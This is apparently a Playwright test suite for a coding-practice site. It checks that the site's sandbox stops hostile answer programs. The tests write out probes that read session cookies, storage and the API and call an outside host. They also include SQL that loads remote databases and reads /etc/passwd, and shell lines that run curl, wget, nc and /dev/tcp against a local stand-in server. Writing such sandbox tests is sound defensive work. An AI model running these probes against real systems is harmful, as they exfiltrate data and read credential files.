import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright/test';
import { becomeCandidate } from './candidate.ts';
import { LANGUAGES, openCode } from './code-page.ts';
import { expect, test } from './page.ts';

const SLUG = 'merge-overlapping-intervals';
const SANDBOX = '/sandbox/code-1.html';
const [PYTHON, TYPESCRIPT, SQL, SHELL] = LANGUAGES;

test.use({ locale: 'en-GB', allowedErrors: [/Content Security Policy|CORS policy|ERR_FAILED|WebSocket connection|status of 404|violates/i] });

interface Prey {
  origin: string;
  /** a server of somebody else */
  outside: string;
}

/** All that a hostile program can think of. It runs as well in a page as in a worker, and says of each whether it was reached. */
async function attack({ origin, outside }: Prey): Promise<Record<string, string>> {
  const scope = globalThis as unknown as Record<string, { getAll: () => Promise<unknown> } | undefined>;
  const wait = async (target: EventTarget, good: string): Promise<void> =>
    new Promise((resolve, reject) => {
      target.addEventListener(good, () => resolve());
      for (const bad of ['error', 'close', 'blocked']) target.addEventListener(bad, () => reject(new Error(bad)));
      setTimeout(() => reject(new Error('nothing')), 3000);
    });
  const acts: Record<string, () => unknown> = {
    'the API': async () => {
      const answer = await fetch(`${origin}/api/session`, { credentials: 'include' });
      if (((await answer.json()) as { person: unknown }).person === null) throw new Error('nobody');
    },
    'the API, in the old way': () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${origin}/api/session`, false);
      request.send();
      if (request.status !== 200) throw new Error('no answer');
    },
    cookies: async () => scope['cookieStore']?.getAll() ?? Promise.reject(new Error('none')),
    'the outbox': async () => wait(indexedDB.open('whetstone'), 'success'),
    'kept answers': async () => caches.keys(),
    'local storage': () => localStorage.length,
    'the page': () => document.body.textContent,
    'a server outside': async () => fetch(`${outside}/fetch`, { mode: 'no-cors' }),
    'a beacon outside': () => {
      if (!navigator.sendBeacon(`${outside}/beacon`, 'x')) throw new Error('not queued');
    },
    'a script outside': async () => import(/* @vite-ignore */ `${outside}/script.js`),
    'a socket outside': async () => wait(new WebSocket(outside.replace('http', 'ws')), 'open'),
  };
  const found: Record<string, string> = {};
  for (const [name, act] of Object.entries(acts)) {
    try {
      await act();
      found[name] = 'reached';
    } catch {
      found[name] = 'refused';
    }
  }
  return found;
}

/** Has the sandbox run a program that a page of ours would never send: whoever has the worker has no more than this. */
async function attackInSandbox(page: Page, prey: Prey): Promise<Record<string, string>> {
  const program = `addEventListener('message', async ({ ports: [port] }) => port.postMessage(await (${attack.toString()})(${JSON.stringify(prey)})));`;
  return page.evaluate(
    async ({ path, text }) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.src = path;
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener('load', resolve));
      const { port1, port2 } = new MessageChannel();
      const heard = new Promise<Record<string, string>>((resolve) => {
        port1.addEventListener('message', ({ data }) => resolve(data as Record<string, string>));
      });
      port1.start();
      frame.contentWindow?.postMessage({ program: text, files: {} }, '*', [port2]);
      return heard;
    },
    { path: SANDBOX, text: program },
  );
}

const reachedOf = (found: Record<string, string>): string[] => Object.keys(found).filter((name) => found[name] === 'reached');

test.describe('a hostile program', () => {
  let server: Server;
  let outside = '';
  let visits: string[] = [];
  test.beforeAll(async () => {
    server = createServer((request, response) => {
      if (request.url !== '/') visits.push(String(request.url));
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': request.url === '/' ? 'text/html' : 'text/javascript' }).end('');
    });
    await new Promise<void>((resolve) => {
      server.listen(0, '127.0.0.1', resolve);
    });
    outside = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  test.beforeEach(() => (visits = []));
  test.afterAll(async () => {
    server.closeAllConnections();
    await new Promise((resolve) => {
      server.close(resolve);
    });
  });

  test('reaches nothing from the sandbox: no cookie, no storage, no API, no page, nobody outside', async ({ page, origin }) => {
    await becomeCandidate(page, origin);
    await page.goto(`/study/${SLUG}`);
    // What the policy stops is told as a request that failed; what the page itself asks is no matter here.
    const answered: string[] = [];
    page.on('response', (response) => {
      if (response.request().frame() !== page.mainFrame()) answered.push(response.url());
    });
    expect(reachedOf(await attackInSandbox(page, { origin, outside }))).toEqual([]);
    expect(answered.filter((url) => !url.startsWith('blob:') && url !== origin + SANDBOX)).toEqual([]);
    expect(visits).toEqual([]);
  });

  test('control: the same reaches ours from a page of ours, and the outside from a page outside', async ({ page, origin }) => {
    await becomeCandidate(page, origin);
    await page.goto(`/study/${SLUG}`);
    const ours = reachedOf(await page.evaluate(attack, { origin, outside }));
    expect(ours).toEqual(expect.arrayContaining(['the API', 'the API, in the old way', 'cookies', 'the outbox', 'kept answers', 'local storage', 'the page']));
    await page.goto(outside);
    const others = reachedOf(await page.evaluate(attack, { origin, outside }));
    expect(others).toEqual(expect.arrayContaining(['a server outside', 'a beacon outside', 'a script outside']));
    await expect.poll(() => visits.length).toBeGreaterThanOrEqual(3);
  });

  test('as an answer in Python, which knows the worker around it, it reaches nothing', async ({ page, origin }) => {
    test.slow();
    await becomeCandidate(page, origin);
    const form = await openCode(page, SLUG, PYTHON);
    await form.write(`
import js, json

async def reach(act):
    try:
        value = act()
        if hasattr(value, "then"):
            await value
        return "reached"
    except BaseException:
        return "refused"

async def merge_intervals(windows):
    acts = {
        "api": lambda: js.fetch("${origin}/api/session"),
        "outside": lambda: js.fetch("${outside}/python"),
        "outbox": lambda: js.indexedDB.open("whetstone"),
        "caches": lambda: js.caches.keys(),
        "cookies": lambda: js.cookieStore.getAll(),
        "storage": lambda: js.localStorage.length,
        "page": lambda: js.document.body,
        "parent": lambda: js.parent.document,
        "eval": lambda: js.eval("1"),
        "script": lambda: js.importScripts("${outside}/script.js"),
    }
    print(json.dumps([name for name, act in acts.items() if await reach(act) == "reached"]))
    return []
`);
    await form.runAll();
    await expect(form.cases.first().locator('pre')).toHaveText('[]');
    expect(visits).toEqual([]);
  });

  test('as an answer in TypeScript it finds the language, timers and a console, and nothing else', async ({ page }) => {
    test.slow();
    const form = await openCode(page, SLUG, TYPESCRIPT);
    await form.write(`
const everything = Function("return this")();
const found = Object.getOwnPropertyNames(everything).filter((name) => /^[a-z]/.test(name)).sort();
function mergeIntervals() { console.log(found.join(" ")); return []; }
`);
    await form.runAll();
    const names = (await form.cases.first().locator('pre').textContent())?.trim().split(' ') ?? [];
    const known =
      'mergeIntervals clearTimeout console decodeURI decodeURIComponent encodeURI encodeURIComponent escape eval globalThis isFinite isNaN parseFloat parseInt queueMicrotask setTimeout undefined unescape performance';
    expect(names.filter((name) => !known.split(' ').includes(name))).toEqual([]);
    expect(names).toContain('setTimeout');
  });

  test('as an answer in SQL it has no file and loads nothing', async ({ page }) => {
    test.slow();
    const form = await openCode(page, 'latest-deployment-per-service', SQL);
    for (const [query, why] of [
      [`ATTACH '${outside}/other.db' AS other; SELECT 1;`, 'there is no other database here'],
      [`SELECT load_extension('${outside}/x.so');`, 'no such function'],
      [`SELECT readfile('/etc/passwd');`, 'no such function'],
    ] as const) {
      await form.write(query);
      expect(new Set(await form.runAll())).toEqual(new Set(['failed']));
      await expect(form.cases.first()).toContainText(why);
    }
    expect(visits).toEqual([]);
  });

  test('as an answer in the shell it finds no command that asks a network, and no machine', async ({ page }) => {
    test.slow();
    const form = await openCode(page, 'processes-with-the-most-open-files', SHELL);
    const { hostname, port } = new URL(outside);
    await form.write(`
for ask in curl wget nc python3 node js-exec sqlite3; do $ask ${outside}/shell > /dev/null 2>&1; echo "$ask $?" >&2; done
exec 3<>/dev/tcp/${hostname}/${port}; printf 'GET /socket HTTP/1.0\\r\\n\\r\\n' >&3
cat /etc/passwd 2>/dev/null | grep -c root >&2
`);
    await form.runAll();
    await expect(form.cases.first().locator('pre')).toContainText(/curl 127\s+wget 127\s+nc 127\s+python3 127\s+node 127\s+js-exec 127\s+sqlite3 127/);
    await expect(form.cases.first().locator('pre')).toContainText(/\s0\s*$/);
    expect(visits).toEqual([]);
  });

  test('opened by itself, the document has no origin and starts nothing', async ({ page }) => {
    await page.goto(SANDBOX);
    expect(await page.evaluate(() => self.origin)).toBe('null');
  });
});
